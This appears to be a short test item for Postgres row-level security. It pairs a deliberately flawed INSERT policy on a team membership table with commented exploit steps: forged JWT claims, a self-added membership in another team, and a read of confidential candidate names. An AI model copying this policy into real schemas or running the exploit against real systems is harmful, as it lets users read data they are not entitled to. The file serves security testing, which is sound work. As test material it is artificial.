-- A user joins any team: inserting a membership is only checked for the user.
-- about: members
-- as: hf_recruiting_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001"}';
-- exploit: INSERT INTO hire.members VALUES ('bbbbbbbb-0000-4000-8000-000000000000',
-- exploit: 'aaaaaaaa-0000-4000-8000-000000000001');
-- exploit: SELECT name FROM hire.candidates;
-- shows: Dan-secret
CREATE POLICY join_team ON hire.members FOR INSERT WITH CHECK (user_id = hire.uid());
GRANT INSERT ON hire.members TO hf_recruiting_app;
